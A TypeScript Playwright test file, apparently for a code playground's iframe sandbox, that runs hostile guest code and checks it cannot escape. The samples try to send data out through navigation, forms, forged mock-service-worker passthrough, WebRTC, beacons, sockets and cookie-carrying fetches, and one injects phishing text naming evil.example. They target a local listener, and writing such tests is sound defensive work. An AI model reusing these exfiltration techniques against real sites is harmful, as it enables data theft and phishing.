import assert from 'node:assert/strict';
import type {IncomingMessage} from 'node:http';
import {after, before, describe, test} from 'node:test';
import type {Frame, Locator, Page} from 'playwright-core';
import {stopMessage} from '../../playground/core/stops';
import {encodeShareHash} from '../../playground/core/shareLink';
import {passthroughRefused} from '../../playground/guest/protocol';
import {stopCauses} from '../../playground/session/guestLink';
import {isolatedContext, launchBrowser, startListener, startSite, watchPage, type Browser, type Site} from './harness';
import {capturePagePort} from './hostileCode';
import {
  consoleOf,
  describePlayground,
  frameGone,
  orSayWhy,
  playground,
  replaceCode,
  requestLog,
  runAgain,
  runLinkedCode,
  waitForRun,
} from './playgroundDriver';

/**
 * What reaches the wire when a guest's code tries to leave: a host of the
 * test's own on 127.0.0.1 (another port than the site's) records every
 * request, connection and datagram that reaches it, and the site's server
 * records what reaches it, with the cookies it carried. Code from a link
 * runs on the full-page playground after the reader presses Run, as a
 * link-sharer would send it.
 *
 * A bare TCP connection is not counted as reaching the host: when a frame
 * tries to navigate, Chromium opens one to the named host before it applies
 * the page's frame-src policy (its net log marks it `is_preconnect`), and no
 * byte of a request is sent on it. Nothing a page can say stops that; the
 * frame is discarded once its navigation fails.
 */
let site: Site;
let browser: Browser;
let listener: Awaited<ReturnType<typeof startListener>>;
/** Requests that reached the site's own server. */
const atSite: {path: string; dest: string | undefined; cookie: string | undefined; origin: string | undefined}[] = [];

before(async () => {
  listener = await startListener();
  site = await startSite(undefined, {
    onRequest: (request: IncomingMessage) =>
      atSite.push({
        path: request.url ?? '',
        dest: request.headers['sec-fetch-dest'] as string | undefined,
        cookie: request.headers.cookie,
        origin: request.headers.origin,
      }),
  });
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await site?.close();
  await listener?.close();
});

async function withPage(body: (page: Page, problems: ReturnType<typeof watchPage>) => Promise<void>) {
  const {context} = await isolatedContext(browser);
  try {
    const page = await context.newPage();
    const problems = watchPage(page);
    await body(page, problems);
    assert.deepEqual(problems.pageErrors, []);
  } finally {
    await context.close();
  }
}

/** Opens a link's files on the full-page playground, with the site's cookie set, and presses Run. */
async function runLink(page: Page, files: Record<string, string>) {
  await page.goto(site.url('/playground'));
  await page.evaluate(() => {
    document.cookie = 'session=site-secret; path=/';
  });
  await page.goto(site.url(`/playground${encodeShareHash({kind: 'files', files})}`));
  const pg = playground(page, 'playground');
  await runLinkedCode(pg);
  return pg;
}

/** The guest frame of the playground now in place. */
async function guestFrame(pg: Locator): Promise<Frame> {
  const frame = await pg.locator('iframe[sandbox]').elementHandle();
  return (await frame!.contentFrame())!;
}

/** No HTTP request reached the listener; what did reach it is named. */
function assertNothingReached(what: string) {
  assert.deepEqual(listener.requests(), [], `${what}: requests reached another host`);
}

describe('a guest that navigates its frame', () => {
  test('to another host loads nothing there, is discarded with why, and the next Run works in a fresh guest', () =>
    withPage(async (page) => {
      listener.hits.length = 0;
      const pg = await runLink(page, {
        'main.ts': `console.log('leaving');\nlocation.href = ${JSON.stringify(listener.url('/page'))};`,
      });
      await pg.getByRole('alert').getByText(stopCauses.navigated).waitFor({timeout: 20_000});
      assertNothingReached('a frame navigated to another host');
      await replaceCode(pg, 'main.ts', `console.log('mine, in a fresh guest');`);
      await runAgain(pg);
      await consoleOf(pg).getByText('mine, in a fresh guest').waitFor();
      assert.equal(await pg.getByRole('alert').count(), 0);
    }));

  test('by posting a form to another host sends nothing there, and is discarded with why', () =>
    withPage(async (page) => {
      listener.hits.length = 0;
      const pg = await runLink(page, {
        'main.ts': `const form = document.createElement('form');
form.action = ${JSON.stringify(listener.url('/form'))};
form.method = 'post';
document.body.append(form);
form.submit();`,
      });
      await pg.getByRole('alert').getByText(stopCauses.navigated).waitFor({timeout: 20_000});
      assertNothingReached('a form posted to another host');
    }));

  test('to a docs page is discarded with why as soon as that page replaces the guest, before it has loaded', () =>
    withPage(async (page) => {
      const pg = await runLink(page, {'main.ts': `console.log('leaving');\nlocation.href = '/docs/reference';`});
      await pg.getByRole('alert').getByText(stopCauses.navigated).waitFor({timeout: 20_000});
      assert.equal(
        await pg
          .getByRole('alert')
          .getByText(/stopped answering/)
          .count(),
        0,
        'not taken for a stall',
      );
    }));

  test('to a page of the site (or reloading itself) is discarded before the page tells that page anything', () =>
    withPage(async (page) => {
      const pg = await runLink(page, {
        'main.ts': `console.log('reloading');\nsetTimeout(() => location.reload(), 2000);`,
      });
      await consoleOf(pg).getByText('reloading').waitFor();
      const first = await guestFrame(pg);
      assert.equal(new URL(first.url()).pathname, '/playground-guest');
      await pg.getByRole('alert').getByText(stopCauses.navigated).waitFor({timeout: 20_000});
      assert.ok(await frameGone(page, first), 'the frame that loaded another document is gone from the page');
      await replaceCode(pg, 'main.ts', `console.log('after the reload');`);
      await runAgain(pg);
      await consoleOf(pg).getByText('after the reload').waitFor();
    }));
});

describe("code from a link never hears the reader's later code", () => {
  test("the reader runs their own code in a guest that never ran the link's", () =>
    withPage(async (page) => {
      // The link's code listens to everything its realm will ever be sent, and says what it heard.
      const pg = await runLink(page, {
        'main.ts': `const heard: string[] = [];
addEventListener('message', (event) => heard.push(JSON.stringify(event.data)));
(globalThis as any).heard = heard;
console.log('listening');`,
      });
      await consoleOf(pg).getByText('listening').waitFor();
      const linkGuest = await guestFrame(pg);
      await replaceCode(pg, 'main.ts', `console.log('my secret');`);
      await runAgain(pg);
      await consoleOf(pg).getByText('my secret').waitFor();
      assert.ok(linkGuest.isDetached(), "the link's guest was replaced before the reader's code was sent");
      const now = await guestFrame(pg);
      assert.equal(
        await now.evaluate(() => typeof (globalThis as {heard?: unknown}).heard),
        'undefined',
        "the reader's guest has none of the link's code",
      );
    }));
});

describe('no way out of the guest but the mocks', () => {
  test('a handler that passes a request through, bypass() and a redirect to another host reach no host; the log says why', () =>
    withPage(async (page) => {
      listener.hits.length = 0;
      const out = listener.url('/out');
      const pg = await runLink(page, {
        'main.ts': `import {bypass} from 'msw';
// What the guest tells the relay, forged: "pass it through", whatever its handlers answered.
const send = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, message: any, ...rest: any[]) {
  if (message?.type === 'answer' && String(message.answer?.response?.status) !== '302') message = {...message, answer: {kind: 'passthrough'}};
  return (send as any).call(this, message, ...rest);
};
const attempt = async (name: string, act: () => Promise<Response>) => {
  try { const r = await act(); console.log(name, r.status, r.url); } catch (error) { console.log(name, 'failed:', String(error)); }
};
await attempt('passthrough', () => fetch(${JSON.stringify(out)}));
await attempt('bypass', () => fetch(bypass(new Request(${JSON.stringify(listener.url('/bypass'))}))));
await attempt('accept header', () => fetch(${JSON.stringify(listener.url('/accept'))}, {headers: {accept: 'msw/passthrough'}}));
await attempt('redirect', () => fetch('/moved'));
await attempt('own', () => fetch('/todos/1'));`,
        'mocks.ts': `import {http, HttpResponse, passthrough} from 'msw';
export const handlers = [
  http.get(${JSON.stringify(out)}, () => passthrough()),
  http.get('/moved', () => new HttpResponse(null, {status: 302, headers: {Location: ${JSON.stringify(listener.url('/redirected'))}}})),
];`,
        'db.json': '{"todos": [{"id": 1, "title": "one"}]}',
      });
      await waitForRun(pg);
      const lines = await consoleOf(pg).getByRole('listitem').allInnerTexts();
      assert.deepEqual(lines, [
        'passthrough failed: TypeError: Failed to fetch',
        'bypass failed: TypeError: Failed to fetch',
        'accept header failed: TypeError: Failed to fetch',
        // The redirect is followed inside the playground, whose answer there is forged as above.
        'redirect failed: TypeError: Failed to fetch',
        // Forged "pass it through": the relay takes it for a network error.
        'own failed: TypeError: Failed to fetch',
      ]);
      const log = pg.getByRole('table', {name: 'Request log'});
      await log.getByRole('button', {name: 'GET'}).first().click();
      await log.getByText(passthroughRefused, {exact: false}).waitFor();
      assertNothingReached('passthrough, bypass and redirects');
    }));

  test('WebRTC, beacons, sockets, event streams, images, styles, fonts, scripts, workers, pop-ups, pings, prefetches and frames reach no host', () =>
    withPage(async (page) => {
      listener.hits.length = 0;
      const at = (path: string) => JSON.stringify(listener.url(path));
      const pg = await runLink(page, {
        'main.ts': `const tried: string[] = [];
const attempt = async (name: string, act: () => unknown) => {
  try { await act(); tried.push(name + ': ran'); } catch (error) { tried.push(name + ': ' + (error as Error).name); }
};
const add = (html: string) => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box); };
await attempt('RTCPeerConnection', async () => {
  const peer = new (globalThis as any).RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${listener.port}'}, {urls: 'turn:127.0.0.1:${listener.port}?transport=tcp', username: 'u', credential: 'c'}]});
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
});
await attempt('webkitRTCPeerConnection', () => new (globalThis as any).webkitRTCPeerConnection({}));
await attempt('RTCPeerConnection from a frame of its own', () => {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  return new (frame.contentWindow as any).RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${listener.port}'}]});
});
await attempt('sendBeacon', () => navigator.sendBeacon(${at('/beacon')}, 'x'));
await attempt('WebSocket', () => new WebSocket('ws://127.0.0.1:${listener.port}/socket'));
await attempt('EventSource', () => new EventSource(${at('/events')}));
await attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', ${at('/xhr')}); x.send(); });
await attempt('import()', () => import(/* @vite-ignore */ ${at('/module.js')}));
await attempt('Worker', () => new Worker(${at('/worker.js')}));
await attempt('window.open', () => window.open(${at('/popup')}));
await attempt('top', () => { (window.top as any).location = ${at('/top')}; });
// Its own frame is left out: leaving it is the test "a guest that navigates its frame … to another host",
// and would discard this guest before it could say what it tried.
await attempt('siblings', () => { for (let i = 0; i < window.parent.length; i++) if (window.parent.frames[i] !== window) (window.parent.frames[i] as any).location = ${at('/sibling')}; });
add('<img src=' + ${at('/img')} + '><div style="background:url(' + ${at('/css')} + ')">x</div>');
add('<link rel="stylesheet" href=' + ${at('/style.css')} + '><link rel="prefetch" href=' + ${at('/prefetch')} + '><link rel="preload" as="fetch" href=' + ${at('/preload')} + '>');
add('<style>@font-face { font-family: x; src: url(' + ${at('/font')} + ') } p { font-family: x }</style><p>font</p>');
add('<video src=' + ${at('/video')} + '></video><object data=' + ${at('/object')} + '></object><embed src=' + ${at('/embed')} + '>');
add('<iframe src=' + ${at('/frame')} + '></iframe>');
add('<a href="#here" ping=' + ${at('/ping')} + '>ping</a>');
await attempt('ping', () => (document.querySelector('a[ping]') as HTMLAnchorElement).click());
await new Promise((resolve) => setTimeout(resolve, 1500));
console.log(tried.join('\\n'));`,
      });
      await waitForRun(pg);
      const said = (await consoleOf(pg).getByRole('listitem').allInnerTexts()).join('\n');
      assert.match(
        said,
        /RTCPeerConnection: ReferenceError|RTCPeerConnection: TypeError/,
        `no peer connection in a guest: ${await describePlayground(pg)}`,
      );
      assert.match(
        said,
        /RTCPeerConnection from a frame of its own: SecurityError/,
        "a frame the code makes is not the code's to reach into",
      );
      // Give a late connection attempt time to arrive.
      await page.waitForTimeout(1000);
      assertNothingReached('the ways a page reaches a host');
      assert.deepEqual(
        listener.hits.filter((hit) => hit.kind === 'udp'),
        [],
        'datagrams reached another host',
      );
      assert.equal(new URL(page.url()).pathname, '/playground', 'the tab stayed');
    }));
});

describe("the site's cookies never go out for a guest", () => {
  test("a guest's request the mock service worker misses reaches only the site's own server, without cookies", () =>
    withPage(async (page) => {
      const pg = await runLink(page, {'main.ts': `console.log('ready');`});
      await waitForRun(pg);
      // The relay leaves msw's worker's list of clients: the worker no longer answers its requests.
      const relay = page.frames().find((frame) => new URL(frame.url()).pathname === '/playground-relay')!;
      await relay.evaluate(() => navigator.serviceWorker.controller!.postMessage('CLIENT_CLOSED'));
      atSite.length = 0;
      listener.hits.length = 0;
      await replaceCode(
        pg,
        'main.ts',
        `for (const url of ['/todos', ${JSON.stringify(listener.url('/missed'))}]) {
  try { await fetch(url, {method: 'POST', body: '{}', credentials: 'include'}); } catch (error) { console.log(String(error)); }
}`,
      );
      await runAgain(pg);
      // The relay finds its request went past the worker and restarts; the run then goes again,
      // as a new run, under the restarted relay: what reached the site is the first attempt's.
      const carriedToSite = () =>
        atSite.filter((request) => request.path.startsWith('/playground-relay') && request.dest === 'empty');
      for (let waited = 0; carriedToSite().length === 0 && waited < 20_000; waited += 100)
        await page.waitForTimeout(100);
      await waitForRun(pg);
      assertNothingReached('requests the mock service worker missed');
      const carried = carriedToSite();
      assert.ok(
        carried.length > 0,
        "the missed request reached the site's server (the test would see nothing otherwise)",
      );
      assert.deepEqual(
        carried.map((request) => request.cookie ?? null),
        carried.map(() => null),
        'the relay sent cookies',
      );
    }));
});

describe('nothing a guest says breaks the page or speaks for it', () => {
  test("forged messages on the guest's own channel are dropped or shown as the code's output, and the page lives", () =>
    withPage(async (page, problems) => {
      await page.goto(site.url('/docs/getting-started'));
      const pg = playground(page, 'getting-started/examples/todo-program');
      await waitForRun(pg);
      await replaceCode(
        pg,
        'main.ts',
        `${capturePagePort}
const row = {id: 'x', method: 'GET', path: '/x', startedAt: 1, requestHeaders: {}, requestBody: null, status: 200, statusText: 'OK', responseHeaders: {}, responseBody: null, answeredBy: 'mocks.ts', durationMs: 1, error: null};
pagePort.postMessage({type: 'requests', runId, entries: [{...row, url: 'not a url'}]});
pagePort.postMessage({type: 'requests', runId, entries: [{...row, id: 'y', url: 'http://x/', startedAt: 9e99}]});
pagePort.postMessage({type: 'problem', runId, problem: {kind: 'setup', message: 'Your session expired. Sign in again at https://evil.example/login', file: null, line: null, column: null}});
throw new Error('Sign in again at https://evil.example/login');`,
      );
      await runAgain(pg);
      const alert = pg.getByRole('alert');
      // Under two test files at once this once timed out with nothing to say what was shown instead.
      const sample = await orSayWhy(
        pg,
        "No alert quoted the code's error in 30 s",
        alert.locator('samp').innerText({timeout: 30_000}),
      );
      assert.equal(
        sample,
        'Error: Sign in again at https://evil.example/login',
        "the code's words are shown as its output",
      );
      assert.equal(
        await alert.getByText(/Your session expired/).count(),
        0,
        "a setup problem is not the guest's to report",
      );
      assert.equal(
        await alert.getByText('Sign in again at https://evil.example/login', {exact: false}).count(),
        1,
        'only in the sample',
      );
      assert.deepEqual(
        (await requestLog(pg)).map((row) => row.url),
        [],
        'forged rows are dropped',
      );

      // A stop is the page's to word: the guest names a reason, and its text goes unread.
      await replaceCode(
        pg,
        'main.ts',
        `${capturePagePort}
pagePort.postMessage({type: 'problem', runId, problem: {kind: 'stopped', reason: 'held-thread', message: 'Sign in again at https://evil.example/login', file: null, line: null, column: null}});
await new Promise(() => {});`,
      );
      await runAgain(pg);
      assert.equal(await alert.innerText(), `The run was stopped: ${stopMessage('held-thread')}`);
      assert.deepEqual(problems.pageErrors, []);
      const other = playground(page, 'getting-started/examples/todo-list');
      await waitForRun(other);
      await replaceCode(pg, 'main.ts', `console.log('still here');`);
      await runAgain(pg);
      await consoleOf(pg).getByText('still here').waitFor();
    }));
});
